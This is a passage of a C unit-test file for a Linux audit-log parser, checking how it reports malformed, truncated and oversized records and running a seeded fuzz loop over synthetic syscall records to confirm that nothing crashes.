	CHECK_STR(s.ops[0].path2, "/srv/b");
	CHECK_INT(s.ops[1].kind, ALIBI_OP_connect);
	CHECK_STR(s.ops[1].host, "10.1.2.3");
	CHECK_INT(s.ops[1].port, 22);
	CHECK_INT(s.ops[2].kind, ALIBI_OP_open_read);
	CHECK_STR(s.ops[2].syscall, "openat");
	CHECK_STR(s.ops[2].path, "/etc/hosts");
	CHECK_INT(s.bad, 1);
	CHECK_INT(s.bad_line[0], 8);
	CHECK_STR(s.bad_what[0], "unsupported arch");
	CHECK_INT(s.records, 9);
	sink_free(&s);
}

/* ---- bad input ---- */

static void
test_bad_records_are_reported(void)
{
	struct sink s;
	static const char text[] =
		"this is junk\n"
		"type=SYSCALL msg=audit(1700000200.000:900): arch=c000003e syscall=87 success=yes exit=0 a0=1 items=1 ppid=1 pid=5 comm=\"rm\"\n"
		"type=PATH msg=audit(1700000200.000:900): item=0 name=\"/tmp/x\" nametype=DELETE\n"
		"type=SYSCALL arch=c000003e syscall=87 success=yes exit=0\n"
		"type=PATH msg=audit(garbage:12): item=0\n"
		"type=CWD msg=audit(1700000200.000:901): cwd=\"/unterminated\n"
		"\x01\x02\xff binary\n"
		"type=SYSCALL msg=audit(1700000200.000:902): arch=c000003e success=yes\n"
		"type=SYSCALL msg=audit(1700000200.000:903): arch=40000003 syscall=10 success=yes exit=0 pid=7\n"
		"type=PATH msg=audit(1700000200.000:904): item=0 name=\"/tmp/\0nul\" nametype=DELETE\n"
		"type=SYSCALL msg=audit(1700000200.000:905): arch=c000003e syscall=87 success=yes exit=0 a0=1 items=1 ppid=1 pid=6 comm=\"rm\"\n"
		"type=PATH msg=audit(1700000200.000:905): item=0 name=\"/tmp/y\" nametype=DELETE\n"
		"type=PATH msg=audit(1700000200.000:905): item=1 name=\"/tmp/z\" ino";
	parse_text(&s, text, sizeof text - 1);
	static const int64_t lines[] = { 1, 4, 5, 6, 7, 8, 10, 13, 9 };
	static const char *const what[] = { "not an audit record", "no msg=audit(...)",
		"bad time or serial in msg=audit(...)", "unterminated quote", "not an audit record",
		"SYSCALL record without syscall= and exit=", "NUL byte in line",
		"truncated last record", "unsupported arch" };
	CHECK_INT(s.bad, 9);
	for (int i = 0; i < 9 && i < s.bad; i++) {
		CHECK_INT(s.bad_line[i], lines[i]);
		CHECK_STR(s.bad_what[i], what[i]);
	}
	CHECK_INT(s.records, 5);
	NEED(s.n == 2);
	CHECK_STR(s.ops[0].path, "/tmp/x");
	CHECK_STR(s.ops[1].path, "/tmp/y");
	sink_free(&s);

	/* A record cut inside a quoted value, and one cut after "key=" */
	parse_str(&s, REC("CWD", "1700000200.000:910", "cwd=\"/ok\"") "type=CWD msg=audit(1700000200.000:911): cwd=\"/ho");
	CHECK_INT(s.bad, 1);
	CHECK_STR(s.bad_what[0], "truncated last record");
	CHECK_INT(s.records, 1);
	sink_free(&s);
	parse_str(&s, "type=SYSCALL msg=audit(1700000200.000:912): arch=c000003e syscall=87 success=yes exit=");
	CHECK_INT(s.bad, 1);
	CHECK_STR(s.bad_what[0], "truncated last record");
	CHECK_INT(s.n, 0);
	sink_free(&s);

	/* Nothing readable at all: no clock, nothing counted. */
	parse_str(&s, "hello\nworld\n");
	CHECK_INT(s.bad, 2);
	CHECK_INT(s.clock, ALIBI_CLOCK_NONE);
	CHECK_INT(s.records, 0);
	sink_free(&s);
}

static void
test_long_line_and_many_records(void)
{
	struct sink s;
	size_t big = 3u << 20;
	char *text = malloc(big + 4096);
	NEED(text);
	size_t n = (size_t)sprintf(text, "type=EXECVE msg=audit(1700000300.000:1): argc=1 a0=\"");
	memset(text + n, 'a', big);
	n += big;
	n += (size_t)sprintf(text + n, "\"\n" SC("1700000300.000:2", "syscall=87 success=yes exit=0 pid=1")
	                     REC("PATH", "1700000300.000:2", "item=0 name=\"/ok\" nametype=DELETE"));
	parse_text(&s, text, n);
	CHECK_INT(s.bad, 1);
	CHECK_STR(s.bad_what[0], "line too long");
	CHECK_INT(s.n, 1);
	sink_free(&s);

	/* one event with more records than are kept */
	n = 0;
	for (int i = 0; i < 600 && n < big; i++)
		n += (size_t)sprintf(text + n, REC("PATH", "1700000300.000:3", "item=%d name=\"/p\""), i);
	parse_text(&s, text, n);
	CHECK_INT(s.records, 512);
	CHECK_INT(s.bad, 88);
	CHECK_STR(s.bad_what[0], "too many records in one event");
	sink_free(&s);
	free(text);
}

/* Mutated copies of real records: nothing may crash or leak. */
static void
test_fuzz_does_not_crash(void)
{
	static const char *const seeds[] = {
		(SC("1700000400.000:1", "syscall=82 success=yes exit=0 items=4 ppid=1 pid=2 exe=2F62696E")
		REC("PATH", "1700000400.000:1", "item=2 name=\"a\" nametype=DELETE")
		REC("PATH", "1700000400.000:1", "item=3 name=\"b\" nametype=CREATE")
		REC("CWD", "1700000400.000:1", "cwd=\"/w\"")),
		(SC("1700000400.000:2", "syscall=59 success=yes exit=0 items=1 ppid=1 pid=2")
		REC("EXECVE", "1700000400.000:2", "argc=3 a0=\"x\" a1_len=4 a1[0]=6162 a1[1]=6364 a2=\"y\"")
		REC("SOCKADDR", "1700000400.000:2", "saddr=0A00")),
		("type=SYSCALL msg=audit(11/29/2026 05:01:50.696:9) : arch=x86_64 syscall=kill a0=0x1 a1=SIGTERM exit=0\n"
		"type=SOCKADDR msg=audit(11/29/2026 05:01:50.696:9) : saddr={ fam=local path=/run/x }\n"),
	};
	unsigned seed = 12345;
	char buf[1024];
	for (int round = 0; round < 600; round++) {
		const char *src = seeds[round % 3];
		size_t n = strlen(src);
		memcpy(buf, src, n);
		for (int k = 0; k < 1 + round % 7; k++) {
			seed = seed * 1103515245u + 12345u;
			size_t at = (seed >> 8) % n;
			buf[at] = (char)(" =\"'{}()\x1d:0aZ\n/\0"[(seed >> 20) % 17]);
		}
		seed = seed * 1103515245u + 12345u;
		size_t cut = round % 2 ? n : (seed >> 8) % (n + 1);
		struct sink s;
		parse_text(&s, buf, cut);
		CHECK(s.n <= 3);
		sink_free(&s);
	}
	/* the a1_len/a1[k] pieces of a long argument are joined */
	struct sink s;
	parse_str(&s, seeds[1]);
	NEED(s.n == 1);
	CHECK_STR(s.ops[0].detail, "x abcd y");
	sink_free(&s);
}

int
main(void)
{
	RUN(test_detect_scores);
	RUN(test_dirfd_names_resolved_by_inode);
	RUN(test_fixture_go_libaudit_normal);
	RUN(test_fixture_go_libaudit_yaml);
	RUN(test_fixture_laurel_process_tree);
	RUN(test_interleaved_events);
	RUN(test_appends);
	RUN(test_event_window);
	RUN(test_file_calls);
	RUN(test_network_and_signals);
	RUN(test_ausearch_interpreted);
	RUN(test_enriched_tail);
	RUN(test_bad_records_are_reported);
	RUN(test_long_line_and_many_records);
	RUN(test_fuzz_does_not_crash);
	return unit_done();
}
